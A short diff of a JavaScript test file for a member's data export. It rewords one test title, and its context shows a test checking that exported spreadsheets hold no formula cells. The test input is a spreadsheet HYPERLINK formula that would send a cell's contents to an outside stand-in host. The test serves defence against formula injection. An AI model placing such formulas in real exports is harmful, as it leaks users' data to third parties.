@@ -70,7 +70,7 @@ describe('a member’s export', () => {
     assert.ok(![...files.values()].join('\n').includes(note.text))
   })
 
-  test('has spreadsheets in which no cell is a formula, whoever wrote it', async () => {
+  test('has spreadsheets in which no cell is a formula, no matter who wrote it', async () => {
     const formula = '=HYPERLINK("https://example.org/?"&A1,"the minutes")'
     const note = await answered(formula)
     const article = await publishArticle(author)
